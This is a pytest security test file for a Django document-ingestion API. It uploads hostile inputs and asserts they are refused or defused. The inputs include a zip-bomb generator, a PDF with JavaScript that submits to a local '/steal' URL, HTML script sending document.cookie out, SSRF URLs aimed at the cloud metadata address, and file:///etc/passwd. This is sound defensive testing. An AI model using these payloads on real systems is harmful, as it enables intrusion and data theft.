"""Hostile inputs against the ingestion API (`POST /api/documents`) and the page.

Each test sends what an attacker would and asserts the refusal or the harmless outcome end to end:
uploads go through the real API and, when accepted, through the real ingestion pipeline (in process,
the stand-in over a real socket), with every outgoing connection recorded.
"""

from __future__ import annotations

import http.server
import io
import socket
import threading
import zipfile
from contextlib import contextmanager
from unittest import mock

import pytest
from django.conf import settings
from django.test import Client
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart

from ingestion.models import Chunk, Document
from tests.factories import ApiKeyFactory, CollectionFactory, UserFactory, bearer

pytestmark = pytest.mark.django_db

SIZE_MIDDLEWARE = "rag_project.security.RequestSizeLimitMiddleware"


@pytest.fixture
def uploader(db, genapi):
    user = UserFactory(username="ingester", is_staff=True)
    collection = CollectionFactory(slug="inbox", is_public=True, writer_users=[user])
    raw = ApiKeyFactory(user=user, scopes=["ingest", "search"]).raw_key
    client = Client(**bearer(raw))
    client.user = user
    client.collection = collection
    return client


def upload(client, name: str, data: bytes, **fields):
    return client.post(
        "/api/documents", {"collection": "inbox", "file": _named(name, data), **fields}, format="multipart"
    )


def _named(name: str, data: bytes):
    handle = io.BytesIO(data)
    handle.name = name
    return handle


def ingest(document_id: int) -> Document:
    from ingestion.services.pipeline import documents_ingest

    documents_ingest([document_id])
    return Document.objects.get(pk=document_id)


def refused_or_failed(response) -> str:
    """The refusal reason: a 4xx error message, or the error of a document stored as failed."""
    if 400 <= response.status_code < 500:
        return response.json()["error"]["message"]
    assert response.status_code in (200, 201), response.content
    document = Document.objects.get(pk=response.json()["id"])
    if document.status == Document.Status.QUEUED:
        document = ingest(document.pk)
    assert document.status == Document.Status.FAILED, (document.status, document.error)
    assert not Chunk.objects.filter(document=document).exists()
    return document.error


class CountingInput:
    """A wsgi.input that holds only `data` and counts what the server reads from it."""

    def __init__(self, data: bytes):
        self.stream = io.BytesIO(data)
        self.read_bytes = 0

    def read(self, size=-1):
        chunk = self.stream.read(size)
        self.read_bytes += len(chunk)
        return chunk

    def readline(self, size=-1):
        chunk = self.stream.readline(size)
        self.read_bytes += len(chunk)
        return chunk


@contextmanager
def recording_http_server():
    """A real HTTP server on 127.0.0.1 that records every request made to it."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            self.wfile.write(b"\x89PNG\r\n\x1a\n")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], hits
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def connections_recorded():
    """Every outgoing socket connection made in this process (host, port)."""
    attempts: list[tuple] = []
    real_connect = socket.socket.connect

    def connect(self, address):
        attempts.append(address if isinstance(address, tuple) else (address,))
        return real_connect(self, address)

    with mock.patch.object(socket.socket, "connect", connect):
        yield attempts


# -- size and count limits ---------------------------------------------------------------------------------


def test_a_1gb_claimed_upload_is_refused_without_reading_it(uploader):
    assert SIZE_MIDDLEWARE in settings.MIDDLEWARE, "RequestSizeLimitMiddleware is not installed"
    body = encode_multipart(BOUNDARY, {"collection": "inbox", "file": _named("big.txt", b"x" * 1000)})
    stream = CountingInput(body)
    response = uploader.generic(
        "POST", "/api/documents", content_type=MULTIPART_CONTENT,
        **{"wsgi.input": stream, "CONTENT_LENGTH": str(1024**3)},
    )  # fmt: skip
    assert response.status_code == 413, response.content
    assert response.json()["error"]["code"] == "request_too_large"
    assert stream.read_bytes == 0
    assert Document.objects.count() == 0


def test_size_middleware_unit(settings):
    from django.http import HttpResponse
    from django.test import RequestFactory

    from rag_project.security import RequestSizeLimitMiddleware

    settings.RAG_MAX_UPLOAD_BYTES = 1000
    middleware = RequestSizeLimitMiddleware(lambda request: HttpResponse("read"))
    factory = RequestFactory()
    big = factory.post(
        "/v1/chat/completions", data=b"x", content_type="application/json", CONTENT_LENGTH="99999999"
    )
    response = middleware(big)
    assert response.status_code == 413 and b"invalid_request_error" in response.content
    assert middleware(factory.post("/api/x", data=b"{}", content_type="application/json")).content == b"read"
    bad = factory.post("/api/x", data=b"{}", content_type="application/json", CONTENT_LENGTH="lots")
    assert middleware(bad).status_code == 400


def test_an_actual_upload_over_the_limit_is_refused(uploader, settings):
    settings.RAG_MAX_UPLOAD_BYTES = 10_000
    reason = refused_or_failed(upload(uploader, "big.txt", b"word " * 5000))
    assert "limit" in reason.lower()


def test_too_many_files_in_one_request(uploader):
    files = {
        f"file{i}": _named(f"f{i}.txt", b"hello") for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1)
    }
    response = uploader.post("/api/documents", {"collection": "inbox", **files}, format="multipart")
    assert response.status_code == 400, response.content
    assert Document.objects.count() == 0


# -- MIME sniffing, archives, active content ---------------------------------------------------------------


def test_extension_is_not_trusted(uploader):
    # An ELF executable named like a text file.
    reason = refused_or_failed(
        upload(uploader, "notes.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8)
    )
    assert reason
    # HTML named .txt is parsed as HTML (its script dropped), not stored as text with the markup.
    response = upload(
        uploader, "page.txt", b"<html><body><p>Plain words here.</p><script>evil()</script></body></html>"
    )
    assert response.status_code == 201, response.content
    assert response.json()["mime_type"] == "text/html"


def _zip_bomb(member: str = "word/document.xml", size: int = 300 * 1024 * 1024) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(member, "w") as handle:
            block = b"\0" * (1024 * 1024)
            for _ in range(size // len(block)):
                handle.write(block)
    return out.getvalue()


def test_docx_zip_bomb_is_refused(uploader):
    bomb = _zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024
    reason = refused_or_failed(upload(uploader, "report.docx", bomb))
    assert "bomb" in reason.lower() or "expands" in reason.lower()


def test_plain_zip_is_refused(uploader):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("inner.txt", "hello")
    reason = refused_or_failed(upload(uploader, "bundle.docx", out.getvalue()))
    assert "zip" in reason.lower()


def _pdf_with_javascript(visible: str, script: str) -> bytes:
    content = f"BT /F1 12 Tf 72 720 Td ({visible}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R"
        b" /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> /AA << /O 5 0 R >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Action /S /JavaScript /JS (" + script.encode() + b") >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def test_pdf_with_javascript_is_text_only_and_never_executed(uploader, genapi, client):
    with recording_http_server() as (port, hits), connections_recorded() as attempts:
        script = f"app.alert('pdfjsmarker'); this.submitForm('http://127.0.0.1:{port}/steal');"
        response = upload(uploader, "report.pdf", _pdf_with_javascript("Quarterly zebrapdf figures", script))
        # The PDF is valid: it is accepted and its text ingested, its script kept out.
        assert response.status_code == 201, response.content
        document = ingest(response.json()["id"])
        assert (document.mime_type, document.status) == ("application/pdf", Document.Status.READY)
        text = " ".join(Chunk.objects.filter(document=document).values_list("text", flat=True))
        assert "zebrapdf" in text
        assert "pdfjsmarker" not in text and "submitForm" not in text
        # Served back only as a download, never rendered inline by the browser.
        client.force_login(uploader.user)
        download = client.get(f"/documents/{document.pk}/download")
        assert download.status_code == 200
        assert download["Content-Disposition"].startswith("attachment")
        assert download["X-Content-Type-Options"] == "nosniff"
    assert hits == []
    assert not [a for a in attempts if len(a) > 1 and a[1] == port]


def test_html_scripts_dropped_and_external_images_not_fetched(uploader, genapi, client):
    with recording_http_server() as (port, hits), connections_recorded() as attempts:
        page = f"""<!DOCTYPE html><html><head><title>Boiler guide</title>
            <link rel="stylesheet" href="http://127.0.0.1:{port}/style.css">
            <script src="http://127.0.0.1:{port}/app.js"></script></head>
            <body><h1>Boiler guide</h1>
            <p>Bleed the radiators every autumn with the kestrelvalve key.</p>
            <img src="http://127.0.0.1:{port}/beacon.png" onerror="alert('imgmarker')">
            <img src="http://169.254.169.254/latest/meta-data/">
            <iframe src="http://127.0.0.1:{port}/frame"></iframe>
            <script>document.location='http://127.0.0.1:{port}/steal?c='+document.cookie;
            var s='scriptmarker';</script>
            </body></html>""".encode()
        response = upload(uploader, "guide.html", page)
        assert response.status_code == 201, response.content
        document = ingest(response.json()["id"])
        assert document.status == Document.Status.READY, document.error
        text = " ".join(Chunk.objects.filter(document=document).values_list("text", flat=True))
        assert "kestrelvalve" in text
        for marker in ("scriptmarker", "imgmarker", "document.cookie", "<script", "<img"):
            assert marker not in text
        # The page shows the passages as text: nothing from the upload becomes markup.
        client.force_login(uploader.user)
        shown = client.get(f"/documents/{document.pk}").content.decode()
        assert "kestrelvalve" in shown and "scriptmarker" not in shown and "<script>document" not in shown
    assert hits == []
    forbidden = [a for a in attempts if len(a) > 1 and (a[1] == port or a[0] == "169.254.169.254")]
    assert forbidden == []


@pytest.mark.parametrize("host", ["127.0.0.1", "169.254.169.254"])
def test_source_url_is_stored_but_never_fetched(uploader, genapi, host):
    with recording_http_server() as (port, hits), connections_recorded() as attempts:
        url = (
            f"http://{host}:{port}/internal/secret"
            if host == "127.0.0.1"
            else f"http://{host}/latest/meta-data/"
        )
        response = uploader.post(
            "/api/documents",
            {"collection": "inbox", "text": "Meeting notes about the pelicanfix rollout.", "source_url": url},
            content_type="application/json",
        )
        assert response.status_code == 201, response.content
        assert response.json()["source_url"] == url
        document = ingest(response.json()["id"])
        assert document.status == Document.Status.READY and document.source_url == url
        search = uploader.post("/api/search", {"query": "pelicanfix"}, content_type="application/json")
        assert search.status_code == 200
    assert hits == []
    assert not [a for a in attempts if len(a) > 1 and (a[0] == "169.254.169.254" or a[1] == port)]


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,<script>x</script>"]
)
def test_source_url_must_be_http(uploader, url):
    response = uploader.post(
        "/api/documents",
        {"collection": "inbox", "text": "words", "source_url": url},
        content_type="application/json",
    )
    assert response.status_code == 400, response.content


# -- CSRF on the page --------------------------------------------------------------------------------------


def test_page_posts_need_a_csrf_token(genapi):
    user = UserFactory(username="reader")
    CollectionFactory(slug="public", is_public=True)
    client = Client(enforce_csrf_checks=True)
    # Sign-in form without the token.
    assert client.post("/login/", {"username": "reader", "password": "x"}).status_code == 403
    client.force_login(user)
    # The page's own calls (session-authenticated API) without the token.
    for path, body in [("/api/ask", {"question": "q"}), ("/api/search", {"query": "q"})]:
        response = client.post(path, body, content_type="application/json")
        assert response.status_code == 403, (path, response.content)
        assert "CSRF" in response.json()["error"]["message"]
    assert client.post("/logout/").status_code == 403
    # With the token the same call goes through.
    page = client.get("/")
    assert page.status_code == 200
    token = client.cookies[settings.CSRF_COOKIE_NAME].value
    response = client.post(
        "/api/search", {"query": "q"}, content_type="application/json", HTTP_X_CSRFTOKEN=token
    )
    assert response.status_code == 200, response.content


def test_api_keys_need_no_csrf_and_cookies_do_not_ride_along(uploader):
    client = Client(enforce_csrf_checks=True, **bearer(ApiKeyFactory(user=uploader.user).raw_key))
    response = client.post("/api/search", {"query": "q"}, content_type="application/json")
    assert response.status_code == 200, response.content
